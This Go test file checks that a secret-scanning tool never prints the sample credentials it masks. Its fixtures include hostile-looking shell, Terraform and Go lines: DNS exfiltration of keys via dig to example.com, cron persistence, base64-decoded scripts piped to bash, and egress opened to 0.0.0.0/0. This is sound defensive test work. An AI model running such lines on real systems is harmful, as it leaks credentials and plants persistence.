package main

import (
	"encoding/base64"
	"fmt"
	"io/fs"
	"maps"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"

	"golang.org/x/tools/txtar"

	"github.com/hiyari/hiyari/analyzers"
	"github.com/hiyari/hiyari/analyzers/fact"
	"github.com/hiyari/hiyari/analyzers/secret/sample"
	"github.com/hiyari/hiyari/cmd/hiyari/internal/demo"
	"github.com/hiyari/hiyari/cmd/hiyari/internal/report"
)

const seed = 7

func fill(text string) string { return demo.Fill(text, seed) }

type secret struct{ value, public string }

// secretsOf are the values that must not be shown, by the name that stands for
// them in leakyFiles. The public prefix of each may be shown.
func secretsOf(seed uint64) map[string]secret {
	return map[string]secret{
		"access_key_id": {sample.AccessKeyID(seed), "AKIA"},
		"secret_key":    {sample.SecretAccessKey(seed), ""},
		"github_token":  {sample.GitHubToken(seed), "ghp_"},
		"slack_token":   {sample.SlackToken(seed), "xoxb-"},
		"password":      {sample.Password(seed), ""},
		"private_key":   {strings.TrimSpace(sample.PrivateKey(seed)), ""},
	}
}

// leaky is a tree in which secrets stand in the way of everything that prints:
// the demo's files and leakyFiles.
func leaky(t *testing.T, seed uint64) map[string]string {
	t.Helper()
	files := map[string]string{}
	for _, f := range demo.Tree(seed) {
		files[f.Name] = string(f.Content)
	}
	for _, f := range txtar.Parse([]byte(leakyFiles)).Files {
		content := string(f.Data)
		for name, secret := range secretsOf(seed) {
			content = strings.ReplaceAll(content, "{{"+name+"}}", secret.value)
			content = strings.ReplaceAll(content, "{{"+name+` \n}}`, strings.ReplaceAll(secret.value, "\n", `\n`))
		}
		content = strings.NewReplacer("{{CR}}", "\r", "{{Latin-1}}", "caf\xe9").Replace(inBase64(t, content))
		if strings.Contains(content, "{{") {
			t.Fatalf("%s holds a mark that nothing replaces", f.Name)
		}
		files[f.Name] = content
	}
	return files
}

// inBase64 encodes what stands between {{base64 and base64}}, inner ones first.
func inBase64(t *testing.T, text string) string {
	t.Helper()
	const open, closing = "{{base64 ", " base64}}"
	for {
		start := strings.LastIndex(text, open)
		if start < 0 {
			return text
		}
		inner, after, closed := strings.Cut(text[start+len(open):], closing)
		if !closed {
			t.Fatal("base64 is not closed")
		}
		text = text[:start] + base64.StdEncoding.EncodeToString([]byte(inner)) + after
	}
}

const leakyFiles = `
-- both/etc/cron.d/both --
GITHUB_TOKEN={{github_token}}
*/5 * * * * root AWS_ACCESS_KEY_ID={{access_key_id}} AWS_SECRET_ACCESS_KEY={{secret_key}} dig @8.8.8.8 {{secret_key}}.example.com
@reboot root curl -H 'Authorization: token {{github_token}}' https://deploy:{{password}}@example.com | dig @9.9.9.9 x
-- no-lines/etc/cron.d/no-lines --
AWS_SECRET_ACCESS_KEY={{secret_key}}
not a line {{secret_key}}
{{secret_key}} * * * * root dig @8.8.8.8 x
* * * * {{secret_key}}
-- schedule.sh --
export AWS_SECRET_ACCESS_KEY={{secret_key}}
echo '{{secret_key}} * * * * root dig @8.8.8.8 x' > /etc/cron.d/x
echo '17 3 * * * {{secret_key}} dig @8.8.8.8 x' > /etc/cron.d/y
-- units/probe.service --
[Service]
Environment=AWS_SECRET_ACCESS_KEY={{secret_key}} GITHUB_TOKEN={{github_token}}
ExecStart=/usr/bin/dig @8.8.8.8 {{secret_key}}
-- units/probe.timer --
[Timer]
OnCalendar={{github_token}}
-- broken/main.tf --
provider "aws" {
  access_key = "{{access_key_id}}"
  secret_key = "{{secret_key}}"
  secret_key = "{{secret_key}}"
  x = {{secret_key}}
  y = upper({{secret_key}}
resource {{secret_key}} {
-- json/main.tf.json --
{"//": "hiyari:ignore {{slack_token}}", "provider": {"aws": {"access_key": "{{access_key_id}}", "secret_key": "{{secret_key}}", "region": "
-- json/x.auto.tfvars.json --
{"password": "{{password}}", "{{secret_key}}": ["{{github_token}}"]}
-- json/keys.tf.json --
{"provider": {"aws": {"access_key": "{{access_key_id}}", "secret_key": "{{secret_key}}"}},
"resource": {"aws_security_group": {"web": {"description": "{{secret_key}}", "egress": {"protocol": "-1", "from_port": 0, "to_port": 0, "cidr_blocks": ["0.0.0.0/0"]}}}}}
-- plan/tfplan.json --
{"format_version":"1.2","variables":{"p":{"value":"{{password}}"}},"planned_values":{"root_module":{"resources":[{"address":"aws_security_group.web","mode":"managed","type":"aws_security_group","name":"web","values":{"timeouts":{"x":"{{password}}"},"description":"{{password}}","egress":[{"cidr_blocks":["0.0.0.0/0"],"from_port":0,"to_port":0,"protocol":"-1","description":"{{password}}"}]},"sensitive_values":{"description":true,"egress":[{"description":true}],"timeouts":true}}]}}}
-- broken/broken.sh --
export AWS_SECRET_ACCESS_KEY={{secret_key}}
if ( "{{secret_key}}" {{access_key_id}}
case {{secret_key}} in
(( {{secret_key}} ))
for {{secret_key}}
<<{{secret_key}}
-- keys.sh --
export AWS_ACCESS_KEY_ID={{access_key_id}} # hiyari:ignore nope {{secret_key}}
export AWS_SECRET_ACCESS_KEY="{{secret_key}}"
aws ec2 authorize-security-group-egress --group-id sg-1 --protocol all --cidr 0.0.0.0/0 --profile "{{secret_key}}"
-- ignores.sh --
export SLACK_TOKEN={{slack_token}} # hiyari:ignore credential {{slack_token}}
dig @8.8.8.8 # hiyari:ignore {{slack_token}} why
# hiyari:ignore schedule until={{slack_token}} why
# hiyari:ignore {{slack_token}}
-- names.sh --
export GITHUB_TOKEN={{github_token}}
cat > /etc/cron.d/{{github_token}} <<E
* * * * * root dig @8.8.8.8 x
E
. ./{{github_token}}.sh
{{github_token}}() {
  echo '* * * * * dig @8.8.8.8 x' | crontab -u {{github_token}} -
}
{{github_token}}
echo '* * * * * root dig @{{github_token}}.example.com x' > /etc/cron.d/d
-- trail/etc/cron.d/probe --
GITHUB_TOKEN={{github_token}}
*/5 * * * * root /opt/probe.sh {{github_token}}
-- trail/opt/probe.sh --
{{github_token}}() {
  dig @8.8.8.8 example.com
}
{{github_token}}
-- trail/main.tf --
resource "aws_instance" "{{github_token}}" {
  user_data = <<-EOT
    #!/bin/sh
    echo '*/5 * * * * dig @9.9.9.9 example.com' | crontab -
  EOT
}
-- program/main.go --
package main

import "os/exec"

const token = "{{github_token}}"

func {{github_token}}() {
	secretKey := "{{secret_key}}"
	exec.Command("sh", "-c", "export AWS_SECRET_ACCESS_KEY="+secretKey+"; echo '* * * * * dig @8.8.8.8 {{secret_key}}' | crontab -").Run()
	exec.Command("aws", "ec2", "authorize-security-group-egress", "--protocol", "all", "--cidr", "0.0.0.0/0", "--group-id", token).Run()
	exec.Command("psql", "postgres://app:{{password}}@db.example.com/x").Run()
}
-- broken-program/main.go --
package main

const secretAccessKey = "{{secret_key}}"

var x = {{secret_key}} {{github_token}}

func {{secret_key}}( {
	awsSecretAccessKey := "{{secret_key}}
-- addresses/main.tf --
variable "github_token" {
  default = "{{github_token}}"
}
resource "aws_security_group" "{{github_token}}" {
  name = "{{github_token}}"
  egress {
    from_port   = 0
    to_port     = 0
    protocol    = "-1"
    cidr_blocks = ["0.0.0.0/0"] # {{github_token}}
  }
}
-- heredoc/main.tf --
resource "aws_instance" "a" {
  user_data = <<-EOT
    #!/bin/sh
    export AWS_SECRET_ACCESS_KEY={{secret_key}}; (crontab -l; echo '* * * * * dig @8.8.8.8 {{secret_key}}') | crontab -
  EOT
  tags = { key = "{{private_key \n}}" }
}
-- quoted/main.tf --
resource "aws_instance" "a" {
  user_data = "#!/bin/sh\ncat > /root/k <<'K'\n{{private_key \n}}\nK\nGITHUB_TOKEN={{github_token}}\n(crontab -l; echo '* * * * * dig @8.8.8.8 {{github_token}}') | crontab -\n"
}
-- block.sh --
KEY='{{private_key}}'
cat > /root/.ssh/id <<E
{{private_key}}
E
crontab - <<'C'
* * * * * dig @8.8.8.8 x '{{private_key \n}}'
C
-- block.json --
{"private_key": "{{private_key \n}}"}
-- addresses.sh --
git clone https://deploy:{{password}}@git.example.com/x.git
curl -u deploy:{{password}} https://example.com
(crontab -l; echo '*/5 * * * * curl https://deploy:{{password}}@example.com; dig @8.8.8.8 a') | crontab -
-- addresses-in-hcl/main.tf --
resource "null_resource" "a" {
  provisioner "local-exec" {
    command = "curl https://deploy:{{password}}@example.com/"
  }
}
module "m" {
  source = "git::https://deploy:{{password}}@git.example.com/x.git"
}
-- halves.sh --
HALF=abcdefgh
export AWS_SECRET_ACCESS_KEY={{secret_key}} DB_PASSWORD="${HALF}{{password}}"
echo "* * * * * root dig @8.8.8.8 $AWS_SECRET_ACCESS_KEY $DB_PASSWORD" > /etc/cron.d/s
-- line-ends.sh --
export AWS_SECRET_ACCESS_KEY={{secret_key}}{{CR}}
crontab - <<'C'{{CR}}
* * * * * dig @8.8.8.8 {{secret_key}}{{CR}}
C{{CR}}
-- latin.sh --
# {{Latin-1}}
export AWS_SECRET_ACCESS_KEY={{secret_key}}
crontab - <<'C'
* * * * * dig @8.8.8.8 {{secret_key}}
C
-- encoded.sh --
echo {{base64 AWS_SECRET_ACCESS_KEY={{secret_key}}
aws ec2 authorize-security-group-egress --group-id sg-1 --protocol all --cidr 0.0.0.0/0 --x {{secret_key}} base64}} | base64 -d | bash
echo {{base64 {{secret_key}} base64}} | base64 -d > /root/.key
-- encoded-twice.sh --
echo {{base64 echo {{base64 export GITHUB_TOKEN={{github_token}}
echo '* * * * * dig @8.8.8.8 {{github_token}}' | crontab - base64}} | base64 -d | sh base64}} | base64 -d | sh
-- encoded/main.tf --
resource "aws_instance" "a" {
  user_data_base64 = "{{base64 #!/bin/sh
export AWS_SECRET_ACCESS_KEY={{secret_key}}
echo '* * * * * dig @8.8.8.8 {{secret_key}}' | crontab - base64}}"
}
`

// leaks lists the secrets of which an output holds a piece, as they are or in
// base64.
func leaks(seed uint64, output string) []string {
	const piece = 8
	var found []string
	for name, secret := range secretsOf(seed) {
		for line := range strings.Lines(strings.TrimPrefix(secret.value, secret.public)) {
			line = strings.TrimSpace(line)
			if strings.HasPrefix(line, "-----") {
				continue // the frame of a private key
			}
			encoded := base64.RawStdEncoding.EncodeToString([]byte(secret.public + line))
			for _, spelled := range []string{line, encoded[(len(secret.public)+2)/3*4:]} {
				for i := 0; i+piece <= len(spelled); i++ {
					if strings.Contains(output, spelled[i:i+piece]) {
						found = append(found, fmt.Sprintf("%s from %d", name, i))
					}
				}
			}
		}
	}
	return found
}

// printing lists the commands that show content.
func printing() map[string][]string {
	commands := map[string][]string{
		"facts":        {"facts", "."},
		"candidates":   {"facts", "--candidates", "."},
		"why":          {"facts", "--why", "provider.aws", "."},
		"text-colored": {"check", "--color", "always", "--audit", "--show-suppressed", "--stats", "--strict"},
	}
	for _, format := range report.Formats() {
		commands[format] = []string{"check", "--audit", "--show-suppressed", "-f", format}
	}
	for _, format := range report.JobFormats() {
		commands["jobs-"+format] = []string{"jobs", "-f", format}
	}
	return commands
}

func TestNoSecretReachesAnyOutput(t *testing.T) {
	for _, seed := range []uint64{seed, 9} { // the latter has a + in the middle of a key
		t.Run(strconv.FormatUint(seed, 10), func(t *testing.T) { checkLeaks(t, seed) })
	}
}

func checkLeaks(t *testing.T, seed uint64) {
	t.Helper()
	trees := map[string]map[string]string{"together": leaky(t, seed)}
	for name, content := range leaky(t, seed) { // alone, so that no other folder tells the masker of a value
		folder, _, _ := strings.Cut(name, "/")
		if trees[folder] == nil {
			trees[folder] = map[string]string{}
		}
		trees[folder][name] = content
	}
	for name, files := range trees {
		t.Run(name, func(t *testing.T) {
			env := world(t, files)
			for name, args := range printing() {
				got := env.try(args...)
				if found := leaks(seed, got.stdout+got.stderr); found != nil {
					t.Errorf("%s shows %d pieces of secrets: %v", name, len(found), found[0])
				}
			}
			holdsSecret := leaks(seed, strings.Join(slices.Collect(maps.Values(files)), "\n")) != nil
			if got := env.try("facts", "."); holdsSecret && !strings.Contains(got.stdout, "…(") {
				t.Error("no masked secret is shown at all: the test has no object")
			}
		})
	}
}

func TestNoSecretReachesAReportInAFile(t *testing.T) {
	env := world(t, leaky(t, seed))
	for _, format := range []string{"text", "json", "sarif", "github"} {
		got := env.try("check", "--audit", "-f", format, "-o", "report")
		content, err := os.ReadFile(filepath.Join(env.dir, "report"))
		if err != nil {
			t.Fatal(err)
		}
		if found := leaks(seed, got.stdout+got.stderr+string(content)); found != nil || len(content) == 0 {
			t.Errorf("%s of %d bytes shows %d pieces of secrets", format, len(content), len(found))
		}
	}
}

func TestNoSecretOfStandardInputIsShown(t *testing.T) {
	for name, args := range map[string][]string{"check": {"check", "--audit"}, "facts": {"facts"}} {
		env := world(t, nil)
		env.stdin = strings.NewReader(leaky(t, seed)["keys.sh"])
		got := env.try(append(args, "--stdin-filename", "keys.sh", "-")...)
		if found := leaks(seed, got.stdout+got.stderr); found != nil || !strings.Contains(got.stdout, "…(40)") {
			t.Errorf("%s shows %d pieces of secrets: %s", name, len(found), got.stderr)
		}
	}
}

func TestPanicNamesFunctionsAndNoValues(t *testing.T) {
	env := world(t, leaky(t, seed))
	env.load = func(fs.FS, analyzers.Options) *fact.Project { return panicWith(leaky(t, seed)["keys.sh"]) }
	for _, args := range [][]string{{"check"}, {"facts", "."}, {"check", "-f", "sarif"}} {
		got := env.try(args...)
		if got.status != 2 || got.stdout != "" {
			t.Errorf("status %d, standard output %q", got.status, got.stdout)
		}
		line, hint, _ := strings.Cut(got.stderr, "\n")
		if !strings.HasPrefix(line, "internal error: in ") || !strings.Contains(line, "panicWith") || !strings.Contains(hint, "report") {
			t.Errorf("standard error %q", got.stderr)
		}
		if found := leaks(seed, got.stderr); found != nil {
			t.Errorf("%d pieces of secrets are shown", len(found))
		}
	}
}

// panicWith panics with the content of a file, twice over: as the value and as
// an index error.
func panicWith(content string) *fact.Project {
	defer func() { panic(content) }()
	lines := strings.Split(content, "\n")
	return map[string]*fact.Project{lines[len(lines)+slices.Index(lines, "nowhere")+1]: nil}[content]
}
